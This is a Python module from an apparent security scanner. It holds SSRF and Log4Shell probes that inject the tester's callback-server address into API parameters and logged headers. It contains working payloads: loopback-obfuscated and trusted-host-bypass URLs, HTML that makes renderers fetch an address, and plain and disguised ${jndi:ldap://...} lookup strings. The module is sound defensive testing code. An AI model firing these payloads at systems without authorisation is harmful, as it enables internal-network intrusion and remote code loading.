"""Out-of-band weaknesses (SSRF, Log4Shell): the system under test is made to call a callback server of ours."""

from __future__ import annotations

import contextlib
import re
from typing import Any, TYPE_CHECKING

from SecurityLibrary.canaries.callback_server import PATIENCE
from SecurityLibrary.canaries.reachable_callbacks import reachable_callback_server
from SecurityLibrary.description.insertion_points import InsertionPoint
from SecurityLibrary.findings.finding import Severity
from SecurityLibrary.injection import trusted_hosts
from SecurityLibrary.objects.identifiers import identifier_in
from SecurityLibrary.probes.base import InsertionPointProbe
from SecurityLibrary.sending.pacing import unlimited
from theodore_qa.errors import NotEvaluatedError

if TYPE_CHECKING:
    from collections.abc import Iterator

    from SecurityLibrary.canaries.callback_server import CallbackServer
    from SecurityLibrary.description.operations import InsertableParameter, ScanOperation
    from SecurityLibrary.findings.finding import Finding
    from SecurityLibrary.scan import Scan
    from theodore_qa.systems.exchange import Exchange

ADDRESSES = re.compile(
    r"(?i:url|uri|link|hook|callback|site|image|avatar|icon|target|dest|redirect|feed|host|domain|endpoint|proxy|src)"
    r"|(?:^|[._-])(?:api|server|gateway|upstream|source|remote|photo|picture|thumbnail|cover|banner|logo)$"
    r"|(?:Api|Server|Gateway|Upstream|Source|Photo|Picture|Thumbnail|Logo)$"
)
# The parts of an address that stand beside its host.
PORT, PATH = re.compile(r"(?i)(?:^|[._-])port$|[a-z]Port$"), re.compile(r"(?i)(?:^|[._-])(?:path|route|resource|uri)$|[a-z]Path$")
HOST, SCHEME = re.compile(r"(?i)(?:host(?:_?name)?|domain|server|ip)$"), re.compile(r"(?i)(?:scheme|protocol)$")
# What names a file to be read may name one of elsewhere.
READ = re.compile(r"(?i)^(?:path|file(?:_?(?:name|path))?|include|page|doc(?:ument)?|template|resource|load|source|remote)$")

# What a document is made of: its pictures and frames are fetched where it is made.
MAKES = re.compile(
    r"(?i)render|pdf|print|preview|invoice|receipt|certificate|label|report|export|convert|screenshot|thumbnail|poster|badge"
)
MARKUP = ('<img src="http://{address}/{token}"><iframe src="http://{address}/{token}"></iframe>',)
IS_NONE = re.compile(
    r"(?i)^(?:id|uuid)$|pass|secret|date|time$|phone|e?-?mail|currency|sort|order|status|state|role|gender|colou?r|code$"
)
MOST_UNNAMED = 60
LOCAL = "127.0.0.1"
# What takes back what was asked for, before it is done.
STOPPING = re.compile(
    r"(?i)/(?:cancel|abort|stop|pause|suspend|delete|remove|archive|close|revoke|withdraw|reject|undo)[\w-]*/?$"
)


class CallbackProbe(InsertionPointProbe):
    """An insertion-point probe whose oracle is a callback: everything is sent, then awaited, then confirmed."""

    PAYLOADS: tuple[str, ...]
    resumable = False  # what was called is repeated at the end

    def run(self, scan: Scan) -> Iterator[Finding]:
        """Send to all insertion points, wait once for the calls, and repeat what was called."""
        with reachable_callback_server(scan) as callback_server:
            sent: dict[str, tuple[InsertionPoint, str]] = {}

            def send(scan: Scan, point: InsertionPoint) -> Finding | None:
                for payload in self.payloads(point, callback_server):
                    token = callback_server.token()
                    sent[token] = (point, payload)
                    answer = self.put(scan, point, _filled(payload, callback_server, token))
                    for follower, given in self.followers(scan, point, answer):
                        scan.sender.send(follower, point.identity, given)
                return None

            points = self.ordered(scan, scan.plan.insertion_points(self.id, self.applies))
            yield from scan.over_insertion_points(self.id, points, send, free_text=self.needs_free_text)
            self.beyond(scan, callback_server, sent)
            callback_server.settle()
            confirmed: set[str] = set()
            for point, payload in [what for token, what in sent.items() if callback_server.called(token, 0)]:
                if point.location not in confirmed and (found := self._again(scan, point, payload, callback_server)):
                    confirmed.add(point.location)
                    yield found

    def _again(self, scan: Scan, point: InsertionPoint, payload: str, callback_server: CallbackServer) -> Finding | None:
        """Send what called once more, and what follows it if need be."""
        token = callback_server.token()
        answer = self.put(scan, point, _filled(payload, callback_server, token))
        observed = "2 of 2 callbacks from the system under test"
        followers = self.followers(scan, point, answer)
        if callback_server.called(token, PATIENCE if not followers else 1.0):
            return self.finding(point.location, observed, answer)
        for follower, given in followers:
            triggered = scan.sender.send(follower, point.identity, given)
            if callback_server.called(token):
                return self.finding((point.location, str(follower)), f"{observed}, the stored address on {follower}", triggered)
        return None

    def payloads(self, point: InsertionPoint, callback_server: CallbackServer) -> tuple[str, ...]:  # noqa: ARG002  # for probes
        """What is sent to an insertion point."""
        return self.PAYLOADS

    def followers(
        self,
        scan: Scan,  # noqa: ARG002  # for probes whose values are stored
        point: InsertionPoint,  # noqa: ARG002  # as above
        answer: Exchange,  # noqa: ARG002  # as above
    ) -> list[tuple[ScanOperation, dict[InsertableParameter, Any]]]:
        """The operations that may use what was just stored, with its identifier."""
        return []

    def beyond(self, scan: Scan, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]) -> None:
        """Send to parameters without a good value but the server's own address."""

    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
        """Send one payload."""
        return scan.sender.put(point, value)


class Ssrf(CallbackProbe):
    """The system calls an address that anybody may choose, inside its own network too."""

    id = "ssrf"
    title = "Server-side request forgery"
    topic = "injection"
    severity = Severity.HIGH
    cwe = 918
    owasp = ("A10:2021", "A01:2025", "API7:2023")
    tier = 2
    needs_free_text = False
    sends = (
        "the address of a callback server on loopback, in several writings, into all that looks like an address, and into "
        "queries that name a file to be read; once into other texts, also as a picture and a frame where a document is made; "
        "where a host is known that may be called, with it as the user, in the path, the query or the fragment; in parts where "
        "host, port and path stand beside each other; then what names the object in which it was stored, such as "
        "POST /webhooks/{id}/test"
    )
    oracle = "the callback server is called, twice, with other tokens"
    bad = 'httpx.get(body["image_url"])'
    good = "refuse hosts whose addresses are private, loopback or link-local; connect to the address that was checked"
    remediation = "Call only hosts of a list; resolve once, refuse private addresses, follow no redirects."

    FOLLOWERS = 4
    PAYLOADS = ("http://{address}/{token}", "http://{address}/{token}#.example.com", "//{address}/{token}", "{address}/{token}")
    # For what refuses loopback by its usual names alone, or takes what begins like an address that it knows.
    LOOPBACK = ("http://127.1:{port}/{token}", "http://2130706433:{port}/{token}", "http://0.0.0.0:{port}/{token}",
                "http://[::ffff:127.0.0.1]:{port}/{token}", "http://localhost:{port}/{token}")  # fmt: skip
    # For what looks for a host that it trusts anywhere in an address.
    TRUSTED = ("http://{host}@{address}/{token}", "http://{address}/{token}?{host}", "http://{address}/{token}#{host}",
               "http://{address}/{host}/{token}", "http://{address}/{token}?u=https://{host}/")  # fmt: skip

    def applies(self, point: InsertionPoint) -> bool:
        """What looks like an address by its name, its format or its value; and what names a file that is read."""
        reads = point.parameter.location == "query" and point.operation.method == "GET" and READ.match(point.parameter.name)
        return point.textual and (_an_address(point.parameter) or str(point.value).startswith("http") or bool(reads))

    def payloads(self, point: InsertionPoint, callback_server: CallbackServer) -> tuple[str, ...]:
        """The address of the server, in other writings too where it is on loopback."""
        others = self.LOOPBACK if callback_server.host == LOCAL else ()
        trusted = (each.replace("{host}", host) for host in trusted_hosts.of(point) for each in self.TRUSTED)
        return (*self.PAYLOADS, *others, *trusted)

    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
        """In the value; where the port and the path of an address stand beside its host, each in its place."""
        beside = _beside(point)
        parts = re.fullmatch(r"http://([\w.:\[\]-]+):(\d+)(/\S*)", value)
        if not beside or parts is None:
            return super().put(scan, point, value)
        given: dict[InsertableParameter, Any] = {point.parameter: parts[1]}
        for parameter in beside:
            number = int(parts[2]) if parameter.kind in ("integer", "number") else parts[2]
            given[parameter] = number if PORT.search(parameter.name) else parts[3] if PATH.search(parameter.name) else "http"
        return unlimited(scan.sender.send(point.operation, point.identity, given))

    def followers(
        self, scan: Scan, point: InsertionPoint, answer: Exchange
    ) -> list[tuple[ScanOperation, dict[InsertableParameter, Any]]]:
        """Operations below the path, with the identifier of what was made where the path has none yet."""
        if point.operation.safe or not answer.ok:
            return []
        found: list[tuple[ScanOperation, dict[InsertableParameter, Any]]] = []
        for operation in scan.target.operations:
            below = operation.path.removeprefix(point.operation.path.rstrip("/") + "/")
            if (
                below == operation.path
                or operation.method not in ("GET", "POST")
                or scan.plan.skip_reason(operation)
                or STOPPING.search(operation.route)
                or below.count("{") > 1
            ):
                continue
            name = match[1] if (match := re.search(r"\{(\w+)\}", below)) else ""
            parameter = next((each for each in operation.parameters if each.location == "path" and each.name == name), None)
            identifier = identifier_in(answer.body, name) if parameter else None
            if parameter is None or identifier is not None:
                found.append((operation, {parameter: identifier} if parameter else {}))
        return found[: self.FOLLOWERS]

    def beyond(self, scan: Scan, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]) -> None:
        """Where only an address that answers is taken, ours is one."""
        known = {point.location for point in scan.plan.insertion_points(self.id, self.applies)}
        for operation in scan.target.operations:
            for parameter in operation.parameters:
                point = InsertionPoint(operation, parameter, scan.plan.identity_for(operation), "", ())
                if point.location in known or not point.textual or not _an_address(parameter) or scan.plan.skip_reason(operation):
                    continue
                token = callback_server.token()
                with contextlib.suppress(NotEvaluatedError):
                    answer = self.put(scan, point, f"http://{callback_server.address}/{token}")
                    if answer.ok or callback_server.called(token, 1.0):
                        sent[token] = (point, self.PAYLOADS[0])
                        scan.coverage.tried(self.id, point.location)

        def unnamed(point: InsertionPoint) -> None:
            self._unnamed(scan, point, callback_server, sent)

        scan.each(unnamed, scan.plan.usable_points(self._takes_text)[:MOST_UNNAMED])

    def _takes_text(self, point: InsertionPoint) -> bool:
        """What may be an address although nothing says so, or a text that a document is made of."""
        sent = point.parameter.location in ("body", "query") and point.textual
        return sent and not self.applies(point) and not IS_NONE.search(point.parameter.name.rpartition(".")[2])

    def _unnamed(
        self, scan: Scan, point: InsertionPoint, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]
    ) -> None:
        """Send an address where none is called so, and elements that bring one into a document, where one is made."""
        makes = MAKES.search(point.operation.route) is not None
        payloads = [self.PAYLOADS[0], *(MARKUP if makes else ())]
        for payload in payloads:
            token = callback_server.token()
            sent[token] = (point, payload)
            with contextlib.suppress(NotEvaluatedError):
                answer = self.put(scan, point, _filled(payload, callback_server, token))
                for follower, given in self.followers(scan, point, answer):
                    if makes or MAKES.search(follower.route.rpartition("/")[2]):
                        scan.sender.send(follower, point.identity, given)


def _filled(payload: str, callback_server: CallbackServer, token: str) -> str:
    """A payload with the address of the server and a token."""
    address = callback_server.address
    return payload.format(address=address, token=token, port=address.rpartition(":")[2])


def _beside(point: InsertionPoint) -> list[InsertableParameter]:
    """The port, the path and the scheme that stand beside a host, in the same object; empty without a port."""
    if not HOST.search(point.parameter.name):
        return []
    alike = [
        each
        for each in point.operation.parameters
        if each.location == point.parameter.location and each.pointer[:-1] == point.parameter.pointer[:-1]
    ]
    found = [each for kind in (PORT, PATH, SCHEME) for each in alike if each != point.parameter and kind.search(each.name)]
    return found if any(PORT.search(each.name) for each in found) else []


def _an_address(parameter: InsertableParameter) -> bool:
    return bool(ADDRESSES.search(parameter.name)) or parameter.schema.get("format") in ("uri", "url", "hostname")


class Log4Shell(CallbackProbe):
    """What is logged is looked up: a value makes the system load code from elsewhere."""

    id = "log4shell"
    title = "Look-up in logged values (Log4Shell)"
    topic = "injection"
    severity = Severity.CRITICAL
    cwe = 917
    owasp = ("A06:2021", "A03:2025")
    tier = 2
    sends = "${jndi:ldap://...} with the address of a callback server, plain and disguised, in values and in usual headers"
    oracle = "the callback server is called, twice, with other tokens"
    bad = "log4j-core before 2.17.1"
    good = "log4j-core from 2.17.1 on"
    remediation = "Bring the logging library up to date; look-ups in messages must be off."

    PAYLOADS = ("${{jndi:ldap://{address}/{token}}}", "${{${{lower:j}}ndi:${{lower:l}}dap://{address}/{token}}}")
    HEADERS = ("User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For")

    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
        """In the value and in headers that are often logged, at once."""
        return scan.sender.put(point, value, headers=dict.fromkeys(self.HEADERS, value))
